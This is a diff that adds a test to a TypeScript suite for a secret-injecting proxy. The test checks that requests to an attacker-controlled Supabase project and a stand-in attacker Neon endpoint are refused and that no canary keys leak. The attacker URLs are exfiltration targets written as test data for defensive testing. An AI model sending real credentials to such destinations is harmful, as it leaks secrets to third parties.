@@ -40,6 +40,22 @@ if (!origin) {
   const canaries = [KEY, CONN, 'NEON_PASSWORD_CANARY_42', CF];
   const seenBy = (host: string): string => origin.received.filter((r) => r.headers.host === host).map((r) => JSON.stringify(r)).join('\n');
 
+  t.test('with the policy as shipped (no project configured), no Supabase project or Neon endpoint gets a key', async (t) => {
+    const shipped = await startTestAirlock(t, {
+      policy: path.resolve(import.meta.dirname, '..', '..', 'rego'), secrets: { supabase_service_key: KEY, neon_connection_string: CONN },
+      resolve: names.map((n) => `${n}=${origin.host}`), allowPrivate: [`${origin.host}:443`], upstreamCa: [ca.files.cert],
+    });
+    const before = origin.received.length;
+    // A read: allowed by the effect rules, so only the destination check stands between the key and the attacker.
+    const s = await viaProxy(shipped.port, `https://${attacker}.supabase.co/rest/v1/secrets?select=*`, { auth: shipped.auth });
+    t.equal(s.status, 403, 'an attacker\'s project: refused');
+    t.match(s.body, /services\.supabase\.projects/, 'saying what to configure');
+    const n = await viaProxy(shipped.port, 'https://ep-attacker-999999.us-east-2.aws.neon.tech/sql', { auth: shipped.auth, method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"query":"select 1","params":[]}' });
+    t.equal(n.status, 403, 'an attacker\'s Neon endpoint: refused');
+    t.equal(origin.received.length, before, 'the origin received nothing');
+    t.same(canaries.filter((c) => JSON.stringify(origin.received.slice(before)).includes(c)), [], 'and no key');
+  });
+
   t.test('an attacker\'s Supabase project gets neither the request nor the key', async (t) => {
     for (const [url, opts] of [
       [`https://${attacker}.supabase.co/rest/v1/anything`, {}],
